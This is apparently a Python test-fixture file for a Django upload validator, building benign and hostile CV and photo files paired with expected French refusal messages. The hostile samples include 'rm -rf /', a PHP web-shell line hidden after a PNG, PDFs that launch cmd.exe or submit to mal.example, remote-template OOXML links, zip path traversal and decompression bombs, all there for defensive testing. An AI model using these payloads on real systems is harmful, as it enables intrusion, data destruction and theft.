"""Files to send, good and hostile, made here byte by byte."""

import io
import struct
import zipfile
import zlib

from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SLIDES = "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml"
SHEETS = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
ODT = "application/vnd.oasis.opendocument.text"
ODP = "application/vnd.oasis.opendocument.presentation"
ODS = "application/vnd.oasis.opendocument.spreadsheet"


def sent(content: bytes, name: str = "document") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, content)


def pdf(*objects: bytes, end=b"trailer << /Root 1 0 R >>\nstartxref\n9\n%%EOF\n") -> bytes:
    first = b"1 0 obj\n<< /Type /Catalog >>\nendobj\n"
    return b"%PDF-1.7\n" + first + b"".join(b"2 0 obj\n" + each + b"\nendobj\n" for each in objects) + end


def packed(content: bytes) -> bytes:
    """An object stream of a PDF."""
    data = zlib.compress(content)
    return b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n" + data + b"\nendstream"


def archive(members: dict, compression=zipfile.ZIP_DEFLATED) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w", compression) as target:
        for name, text in members.items():
            target.writestr(name, text)
    return content.getvalue()


def ooxml(main=WORD, part="word/document.xml", **members) -> bytes:
    types = f'<Types><Override PartName="/{part}" ContentType="{main}"/></Types>'
    return archive({"[Content_Types].xml": types, "_rels/.rels": "<Relationships/>", part: "<w/>", **members})


def odf(mimetype=ODT, manifest="<manifest/>", **members) -> bytes:
    return archive({"mimetype": mimetype, "content.xml": "<office/>", "META-INF/manifest.xml": manifest, **members})


def picture(form: str, size=(8, 6)) -> bytes:
    content = io.BytesIO()
    Image.new("RGB", size, "navy").save(content, form)
    return content.getvalue()


def huge_png(width: int, height: int) -> bytes:
    """A PNG of a few bytes that says to be immense."""

    def chunk(name, data):
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0")) + chunk(b"IEND", b"")


def encrypted(content: bytes) -> bytes:
    """The same archive, whose members say that a password protects them."""
    data = bytearray(content)
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = data.find(mark)
        while start >= 0:
            data[start + offset] |= 1
            start = data.find(mark, start + 4)
    return bytes(data)


def damaged(content: bytes, at: int) -> bytes:
    data = bytearray(content)
    data[at] ^= 0xFF
    return bytes(data)


MAX_BYTES = 10 * 1024 * 1024
UNKNOWN = "Ce format n'est pas accepté"
REMOTE = (
    '<Relationships><Relationship Id="r1" Type="http://x/relationships/{}" Target="https://mal.example/t.dotm" '
    'TargetMode="External"/></Relationships>'
)

HOSTILE = {
    # What is not one of the formats, whatever its name says.
    "empty": (b"", "cv.pdf", "vide"),
    "too heavy": (pdf() + b" " * MAX_BYTES, "cv.pdf", "plus de 10 Mo"),
    "windows program": (b"MZ\x90\x00" + b"\0" * 60, "cv.pdf", UNKNOWN),
    "linux program": (b"\x7fELF\x02\x01\x01" + b"\0" * 60, "cv.pdf", UNKNOWN),
    "shell script": (b"#!/bin/sh\nrm -rf /\n", "cv.pdf", UNKNOWN),
    "page with a script": (b"<html><script>alert(1)</script>", "cv.pdf", UNKNOWN),
    "svg with a script": (b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "photo.png", UNKNOWN),
    "gif": (picture("GIF"), "photo.png", UNKNOWN),
    "text": (b"Mon CV", "cv.pdf", UNKNOWN),
    "page before a pdf": (b"<script>alert(1)</script>" + pdf(), "cv.pdf", UNKNOWN),
    "program before an archive": (b"MZ\x90\x00" + ooxml(), "cv.docx", UNKNOWN),
    "gzip": (b"\x1f\x8b\x08\x00" + b"\0" * 30, "cv.docx", UNKNOWN),
    "rar": (b"Rar!\x1a\x07\x01\x00" + b"\0" * 30, "cv.docx", UNKNOWN),
    "old or encrypted office": (bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 504, "cv.docx", "ancien format"),
    "program by its name": (pdf(), "cv.pdf.exe", "renommez-le en « .pdf »"),
    "picture said to be a pdf": (picture("PNG"), "cv.pdf", "contenu est celui d'un PNG"),
    "page by its name": (picture("JPEG"), "photo.html", "contenu est celui d'un JPEG"),
    # PDF.
    "pdf cut": (pdf(end=b""), "cv.pdf", "incomplet"),
    "pdf without table": (pdf(end=b"%%EOF"), "cv.pdf", "incomplet"),
    "pdf with javascript": (pdf(b"<< /S /JavaScript /JS (app.alert(1)) >>"), "cv.pdf", "JavaScript"),
    "pdf with javascript in other words": (pdf(b"<< /S /J#61vaScr#69pt /JS (x) >>"), "cv.pdf", "JavaScript"),
    "pdf with packed javascript": (pdf(packed(b"3 0 << /S /JavaScript >>")), "cv.pdf", "JavaScript"),
    "pdf that sends data": (pdf(b"<< /S /SubmitForm /F (https://mal.example) >>"), "cv.pdf", "formulaire"),
    "pdf that launches": (pdf(b"<< /S /Launch /F (cmd.exe) >>"), "cv.pdf", "lance un programme"),
    "pdf with files": (pdf(b"<< /Type /EmbeddedFile >>"), "cv.pdf", "d'autres fichiers"),
    "encrypted pdf": (pdf(end=b"trailer << /Encrypt 9 0 R >>\nstartxref\n9\n%%EOF"), "cv.pdf", "mot de passe"),
    "pdf bomb": (pdf(packed(b"3 0 " + b" " * 40_000_000)), "cv.pdf", "démesuré"),
    # Archives.
    "archive": (archive({"cv.txt": "CV"}), "cv.docx", "archive"),
    "java program": (archive({"META-INF/MANIFEST.MF": "Main-Class: X"}), "cv.docx", "archive"),
    "spreadsheet": (ooxml(SHEETS, "xl/workbook.xml"), "cv.docx", UNKNOWN),
    "open spreadsheet": (odf(ODS), "cv.odt", UNKNOWN),
    "document without text": (archive({"[Content_Types].xml": f'<Types t="{WORD}"/>'}), "cv.docx", "abîmé"),
    "open document without content": (archive({"mimetype": ODT}), "cv.odt", "abîmé"),
    "macros": (ooxml(**{"word/vbaProject.bin": b"x"}), "cv.docx", "macros"),
    "macros by their type": (
        ooxml("application/vnd.ms-word.document.macroEnabled.main+xml"),
        "cv.docx",
        "macros",
    ),
    "open document with macros": (odf(**{"Basic/Standard/Module1.xml": "Sub x"}), "cv.odt", "macros"),
    "open document with scripts": (odf(**{"Scripts/python/x.py": "import os"}), "cv.odt", "macros"),
    "activex": (ooxml(**{"word/activeX/activeX1.xml": "<x/>"}), "cv.docx", "objet incorporé"),
    "embedded program": (ooxml(**{"word/embeddings/oleObject1.bin": b"MZ"}), "cv.docx", "objet incorporé"),
    "remote template": (
        ooxml(**{"word/_rels/settings.xml.rels": REMOTE.format("attachedTemplate")}),
        "cv.docx",
        "ailleurs",
    ),
    "remote object": (ooxml(**{"word/_rels/document.xml.rels": REMOTE.format("oleObject")}), "cv.docx", "ailleurs"),
    "bomb": (ooxml(**{"word/media/a.bin": b"\0" * 30_000_000}), "cv.docx", "démesuré"),
    "too many members": (ooxml(**{f"word/{number}.xml": "" for number in range(5_001)}), "cv.docx", "démesuré"),
    "climbs folders": (ooxml(**{"../../etc/cron.d/x": "x"}), "cv.docx", "noms anormaux"),
    "whole path": (ooxml(**{"/etc/passwd": "x"}), "cv.docx", "noms anormaux"),
    "twice the same": (ooxml(**{"WORD/document.xml": "<w/>"}), "cv.docx", "deux fois"),
    "encrypted archive": (encrypted(ooxml()), "cv.docx", "mot de passe"),
    "encrypted open document": (odf(manifest="<manifest:encryption-data/>"), "cv.odt", "mot de passe"),
    "archive cut": (ooxml()[:-30], "cv.docx", "abîmé"),
    "archive damaged": (damaged(odf(), at=40), "cv.odt", "abîmé"),
    # Images.
    "picture cut": (picture("PNG")[:40], "photo.png", "abîmée"),
    "jpeg cut": (picture("JPEG", (200, 200))[:300], "photo.jpg", "abîmée"),
    "picture damaged": (damaged(picture("PNG"), at=45), "photo.png", "abîmée"),
    "immense picture": (huge_png(8_000, 6_000), "photo.png", "trop de pixels"),
    "picture bomb": (huge_png(60_000, 60_000), "photo.png", "trop de pixels"),
    "page after a picture": (picture("PNG") + b"<?php system($_GET[0]);", "photo.png", "suit la fin"),
}
"""Content, name, what the refusal says."""

GOOD = {
    "pdf": (pdf(packed(b"3 0 << /Type /Page >>")), "CV.pdf", "application/pdf"),
    "docx": (ooxml(), "cv.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document"),
    "pptx": (
        ooxml(SLIDES, "ppt/presentation.xml", **{"ppt/embeddings/Feuille.xlsx": b"PK"}),
        "Diapositives.pptx",
        "application/vnd.openxmlformats-officedocument.presentationml.presentation",
    ),
    "odt": (odf(), "cv.odt", ODT),
    "odp": (odf(ODP), "cv.odp", ODP),
    "png": (picture("PNG"), "capture.PNG", "image/png"),
    "jpeg": (picture("JPEG"), "photo.jpeg", "image/jpeg"),
    "without extension": (picture("JPEG"), "photo", "image/jpeg"),
}
"""Content, name, type."""
